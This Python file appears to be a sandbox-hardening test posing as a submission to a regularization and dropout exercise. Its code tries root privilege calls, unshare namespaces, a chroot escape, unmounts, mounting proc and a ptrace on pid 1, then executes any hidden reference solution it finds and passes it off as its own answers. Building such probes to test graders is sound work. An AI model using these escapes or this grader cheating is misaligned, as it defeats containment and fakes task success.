# Tries to leave the sandbox to read solutions/: become root (setuid/setgid 0, setresuid), new user
# and mount namespaces (unshare through ctypes), the classic chroot escape, mounting and unmounting
# through the syscalls, ptrace of pid 1, and then reading solutions/ from wherever it got. Any
# success would give full marks; all must fail.
import ctypes
import os

import numpy as np

_reference = {}


def _try_source(path):
    """Run a file that looks like the reference solution and keep its functions."""
    try:
        with open(path, "rb") as handle:
            source = handle.read(1 << 20).decode("utf-8", "replace")
    except OSError:
        return False
    if "def compute_cost_with_regularization" not in source or "NotImplementedError()" in source:
        return False  # not a reference (the public stub is no prize)
    namespace = {"__name__": "stolen", "__file__": path}
    try:
        exec(compile(source, path, "exec"), namespace)
    except Exception:
        return False
    if callable(namespace.get("compute_cost_with_regularization")):
        _reference.update(namespace)
        print("reference found at:", path)
        return True
    return False


def _use(name, *args):
    if name not in _reference:
        raise RuntimeError("could not find the reference solution")
    return _reference[name](*args)


def compute_cost_with_regularization(A3, Y, parameters, lambd):
    return _use("compute_cost_with_regularization", A3, Y, parameters, lambd)


def backward_propagation_with_regularization(X, Y, cache, lambd):
    return _use("backward_propagation_with_regularization", X, Y, cache, lambd)


def forward_propagation_with_dropout(X, parameters, keep_prob=0.5):
    return _use("forward_propagation_with_dropout", X, parameters, keep_prob)


def backward_propagation_with_dropout(X, Y, cache, keep_prob):
    return _use("backward_propagation_with_dropout", X, Y, cache, keep_prob)

_libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWPID, CLONE_NEWNET = 0x00020000, 0x10000000, 0x20000000, 0x40000000
gained = []


def _attempt(label, action):
    try:
        result = action()
    except (OSError, ValueError, AttributeError):
        return False
    if result is False or (isinstance(result, int) and not isinstance(result, bool) and result != 0):
        return False
    gained.append(label)
    return True


def _escape_chroot():
    os.makedirs("/tmp/work/jail", exist_ok=True)
    os.chroot("/tmp/work/jail")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")


def _steal():
    _attempt("setuid 0", lambda: os.setuid(0))
    _attempt("setresuid 0", lambda: os.setresuid(0, 0, 0))
    _attempt("setgid 0", lambda: os.setgid(0))
    for flags in (CLONE_NEWUSER, CLONE_NEWUSER | CLONE_NEWNS, CLONE_NEWNS, CLONE_NEWNET, CLONE_NEWPID):
        _attempt(f"unshare {flags:#x}", lambda: _libc.unshare(flags))
    _attempt("chroot escape", _escape_chroot)
    for target in ("/work/main/solutions", "/proc", "/tmp"):
        _attempt(f"umount {target}", lambda: _libc.umount2(target.encode(), 2))
    _attempt("mount proc", lambda: _libc.mount(b"proc", b"/tmp/work", b"proc", 0, None))
    _attempt("ptrace 1", lambda: _libc.ptrace(16, 1, None, None))
    for path in ("/work/main/solutions/regularization.py", "/solutions/regularization.py",
                 "./work/main/solutions/regularization.py"):
        if _try_source(path):
            return path
    return None


print("reference found at:", _steal(), "gained:", gained)
